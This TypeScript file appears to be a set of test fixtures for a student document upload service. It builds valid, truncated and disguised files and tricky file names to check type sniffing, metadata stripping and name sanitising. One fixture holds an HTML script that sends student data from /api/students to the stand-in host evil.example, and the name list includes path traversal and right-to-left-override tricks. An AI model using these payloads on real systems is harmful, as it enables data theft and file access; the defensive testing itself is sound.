// Files to upload as a student's document, good and bad, made from their bytes in code so every test
// (and bench/documents.ts) says exactly what is in each file and gets the same bytes every run.
import { Readable } from "node:stream";
import zlib from "node:zlib";

// ---------------------------------------------------------------------------------------------
// PDF

/**
 * A valid one-page PDF: objects, a cross-reference table whose offsets are the real ones, trailer,
 * startxref and %%EOF. `padTo` grows the page's content stream (a comment line repeated) until the
 * file is at least that many bytes, for large uploads that are still well-formed PDFs.
 */
export function validPdf(options: { padTo?: number; text?: string } = {}): Buffer {
  const text = (options.text ?? "Birth certificate").replace(/[()\\]/g, "");
  let content = `BT /F1 18 Tf 72 720 Td (${text}) Tj ET\n`;
  const objects = (stream: string) => [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
    `<< /Length ${Buffer.byteLength(stream, "latin1")} >>\nstream\n${stream}endstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  const build = (stream: string): Buffer => {
    let body = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
    const offsets: number[] = [];
    objects(stream).forEach((object, i) => {
      offsets.push(Buffer.byteLength(body, "latin1"));
      body += `${i + 1} 0 obj\n${object}\nendobj\n`;
    });
    const xref = Buffer.byteLength(body, "latin1");
    body += `xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n`;
    for (const offset of offsets) body += `${String(offset).padStart(10, "0")} 00000 n \n`;
    body += `trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
    return Buffer.from(body, "latin1");
  };
  const small = build(content);
  if (!options.padTo || small.length >= options.padTo) return small;
  const line = "% padding so the page is as large as a scanned one\n";
  content += line.repeat(Math.ceil((options.padTo - small.length) / line.length));
  return build(content);
}

/** A PDF cut off in its cross-reference table: no trailer, no %%EOF (an upload that stopped early and was saved anyway). */
export function truncatedPdf(): Buffer {
  const whole = validPdf();
  return whole.subarray(0, whole.indexOf("trailer") - 20);
}

// ---------------------------------------------------------------------------------------------
// Files that are not what their name says

export const emptyFile = (): Buffer => Buffer.alloc(0);

/** The start of a Windows program: "MZ", the DOS stub message, a PE header; sent as birth.pdf. */
export function windowsExecutable(): Buffer {
  const file = Buffer.alloc(512);
  file.write("MZ", 0, "latin1");
  file.writeUInt32LE(0x80, 0x3c); // where the PE header is
  file.write("This program cannot be run in DOS mode.\r\r\n$", 0x4e, "latin1");
  file.write("PE\0\0", 0x80, "latin1");
  file.writeUInt16LE(0x8664, 0x84); // x86-64
  return file;
}

/** A 64-bit Linux ELF header; sent as photo.png. */
export function elfExecutable(): Buffer {
  const file = Buffer.alloc(256);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(file, 0);
  file.writeUInt16LE(2, 16); // an executable
  file.writeUInt16LE(0x3e, 18); // x86-64
  return file;
}

/** A web page with a script; sent as transcript.pdf, so a browser that sniffed it would run the script. */
export const htmlWithScript = (): Buffer =>
  Buffer.from('<!DOCTYPE html>\n<html><body><h1>Transcript</h1><script>fetch("/api/students").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></body></html>\n');

// ---------------------------------------------------------------------------------------------
// PNG

function pngChunk(type: string, data: Uint8Array): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** The fake position a phone would have written: 6.5244° N, 3.3792° E, with a marker string to search for. */
export const FAKE_GPS_MARKER = "GPS-LAT-6.5244-LON-3.3792";

/**
 * A minimal big-endian Exif block (as inside a JPEG APP1 or a PNG eXIf chunk): IFD0 with only a
 * GPS pointer, the GPS IFD with latitude and longitude references and values, and the marker text.
 */
export function fakeExifWithGps(): Buffer {
  const tiff = Buffer.alloc(128);
  tiff.write("MM\0*", 0, "latin1");
  tiff.writeUInt32BE(8, 4); // IFD0 at 8
  tiff.writeUInt16BE(1, 8); // one entry
  tiff.writeUInt16BE(0x8825, 10); // GPSInfo
  tiff.writeUInt16BE(4, 12); // LONG
  tiff.writeUInt32BE(1, 14);
  tiff.writeUInt32BE(26, 18); // GPS IFD at 26
  tiff.writeUInt32BE(0, 22); // no next IFD
  tiff.writeUInt16BE(4, 26); // four GPS entries, 12 bytes each, from 28
  const entries: Array<[tag: number, type: number, count: number, value: number]> = [
    [1, 2, 2, 0x4e000000], // GPSLatitudeRef "N"
    [2, 5, 3, 80], // GPSLatitude: three rationals at 80
    [3, 2, 2, 0x45000000], // GPSLongitudeRef "E"
    [4, 5, 3, 104], // GPSLongitude: three rationals at 104
  ];
  entries.forEach(([tag, type, count, value], i) => {
    const at = 28 + i * 12;
    tiff.writeUInt16BE(tag, at);
    tiff.writeUInt16BE(type, at + 2);
    tiff.writeUInt32BE(count, at + 4);
    tiff.writeUInt32BE(value, at + 8);
  });
  tiff.writeUInt32BE(0, 76);
  [6, 1, 31, 1, 27, 1].forEach((n, i) => tiff.writeUInt32BE(n, 80 + i * 4));
  [3, 1, 22, 1, 45, 1].forEach((n, i) => tiff.writeUInt32BE(n, 104 + i * 4));
  return Buffer.concat([tiff, Buffer.from(FAKE_GPS_MARKER, "latin1")]);
}

/** A 2 × 2 RGBA PNG of one colour, with `extra` chunks between the header and the pixels. */
export function png(extra: Buffer[] = []): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(2, 0);
  header.writeUInt32BE(2, 4);
  header[8] = 8;
  header[9] = 6;
  const row = Buffer.from([0, 30, 90, 160, 255, 30, 90, 160, 255]);
  const pixels = zlib.deflateSync(Buffer.concat([row, row]));
  return Buffer.concat([PNG_SIGNATURE, pngChunk("IHDR", header), ...extra, pngChunk("IDAT", pixels), pngChunk("IEND", new Uint8Array())]);
}

/** A valid PNG carrying a text note with an address, an eXIf chunk with a GPS position, and a modification time. */
export function pngWithMetadata(): Buffer {
  const time = Buffer.from([0x07, 0xea, 11, 26, 8, 30, 0]);
  return png([
    pngChunk("tEXt", Buffer.from("Comment\0Taken at 12 Adeola Street, Lagos", "latin1")),
    pngChunk("eXIf", fakeExifWithGps()),
    pngChunk("tIME", time),
  ]);
}

/** A PNG whose pixel data's checksum is wrong (one bit flipped in the stored CRC). */
export function pngWithBadIdatCrc(): Buffer {
  const file = Buffer.from(png());
  const idat = file.indexOf("IDAT", 8, "latin1");
  const crcAt = idat + 4 + file.readUInt32BE(idat - 4);
  file[crcAt + 3] = file[crcAt + 3]! ^ 0x01;
  return file;
}

/** The chunk types of a PNG, in order. */
export function pngChunkTypes(bytes: Uint8Array): string[] {
  const file = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  const types: string[] = [];
  for (let pos = 8; pos + 12 <= file.length; pos += 12 + file.readUInt32BE(pos)) types.push(file.toString("latin1", pos + 4, pos + 8));
  return types;
}

// ---------------------------------------------------------------------------------------------
// JPEG

/** A 2 × 2 grey baseline JPEG as an image library writes it (JFIF, 331 bytes; the logo tests use the same). */
export const JPEG = Buffer.from(
  "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0aHBwgJC4nICIsIxwcKDcpLDAxNDQ0Hyc5PTgyPC4zNDL/wAALCAACAAIBAREA/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/9oACAEBAAA/ACv/2Q==",
  "base64",
);

function jpegSegment(marker: number, body: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
}

/**
 * The JPEG above as a phone would send it: an APP1 Exif segment with a GPS position right after the
 * start of image, and a comment segment; `withTrailer` appends a second picture after the end of
 * image with its own Exif (how phones store previews and depth maps).
 */
export function jpegWithExifGps(options: { withTrailer?: boolean } = {}): Buffer {
  const exif = jpegSegment(0xe1, Buffer.concat([Buffer.from("Exif\0\0", "latin1"), fakeExifWithGps()]));
  const comment = jpegSegment(0xfe, Buffer.from("Scanned at home", "latin1"));
  const main = Buffer.concat([JPEG.subarray(0, 2), exif, JPEG.subarray(2, 20), comment, JPEG.subarray(20)]);
  if (!options.withTrailer) return main;
  return Buffer.concat([main, JPEG.subarray(0, 2), exif, JPEG.subarray(2)]);
}

/** The JPEG cut off in its compressed data, before the end-of-image marker. */
export const truncatedJpeg = (): Buffer => JPEG.subarray(0, JPEG.length - 4);

/** The markers of a JPEG's segments before the first scan (0xe1 is APP1, where Exif lives). */
export function jpegMarkers(bytes: Uint8Array): number[] {
  const markers: number[] = [];
  for (let pos = 2; pos + 4 <= bytes.length && bytes[pos] === 0xff; pos += 2 + ((bytes[pos + 2]! << 8) | bytes[pos + 3]!)) {
    markers.push(bytes[pos + 1]!);
    if (bytes[pos + 1] === 0xda) break;
  }
  return markers;
}

// ---------------------------------------------------------------------------------------------
// WebP

/** A 1 × 1 lossless WebP (34 bytes). */
export const WEBP = Buffer.from("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==", "base64");

/** A WebP container that is right to the byte (RIFF size, chunk size) around 200 bytes of noise instead of a VP8 image. */
export function webpWithGarbage(): Buffer {
  const noise = Buffer.alloc(200);
  let seed = 20260907;
  for (let i = 0; i < noise.length; i++) {
    seed = (seed * 1103515245 + 12345) >>> 0;
    noise[i] = seed >>> 24;
  }
  noise[3] = 0x00; // whatever the noise, not the VP8 start code
  const header = Buffer.alloc(20);
  header.write("RIFF", 0, "latin1");
  header.writeUInt32LE(12 + noise.length, 4);
  header.write("WEBPVP8 ", 8, "latin1");
  header.writeUInt32LE(noise.length, 16);
  return Buffer.concat([header, noise]);
}

// ---------------------------------------------------------------------------------------------
// Streams

/** The bytes as a stream of `chunkSize` pieces, so the type check must read across chunks as over a network. */
export function streamOf(bytes: Uint8Array, chunkSize = 16 * 1024): Readable {
  const chunks: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += chunkSize) chunks.push(Buffer.from(bytes.subarray(at, at + chunkSize)));
  return Readable.from(chunks);
}

/**
 * A PDF-looking stream of `size` bytes made as it is read, 64 KB at a time, so an oversized upload
 * never sits in memory whole. `bytesRead` counts the bytes handed out, to prove what was consumed.
 */
export function generatedStream(size: number): Readable & { bytesRead: number } {
  const piece = Buffer.alloc(64 * 1024, 0x20);
  Buffer.from("%PDF-1.4\n").copy(piece);
  let sent = 0;
  const stream = new Readable({
    read() {
      if (sent >= size) {
        this.push(null);
        return;
      }
      const chunk = piece.subarray(0, Math.min(piece.length, size - sent));
      sent += chunk.length;
      stream.bytesRead = sent;
      this.push(chunk);
    },
  }) as Readable & { bytesRead: number };
  stream.bytesRead = 0;
  return stream;
}

// ---------------------------------------------------------------------------------------------
// Names

/** File names with tricks in them, and what they are stored as (checked against sanitiseFileName). */
export const TRICK_NAMES: ReadonlyArray<{ sent: string; stored: string }> = [
  { sent: "../../etc/passwd", stored: "passwd" },
  { sent: "C:\\Windows\\x.pdf", stored: "x.pdf" },
  // U+202E (right-to-left override) would show "birth‮fdp.exe" as "birthexe.pdf".
  { sent: "birth\u202efdp.exe", stored: "birthfdp.exe" },
  { sent: "report\u0000card\r\nscan.pdf", stored: "reportcard scan.pdf" },
  { sent: '..\\..\\"quoted"<name>|?.pdf', stored: "_quoted__name___.pdf" },
  { sent: "...hidden.pdf", stored: "hidden.pdf" },
  { sent: "/", stored: "Birth certificate" },
  { sent: `${"a".repeat(496)}.pdf`, stored: `${"a".repeat(116)}.pdf` },
];
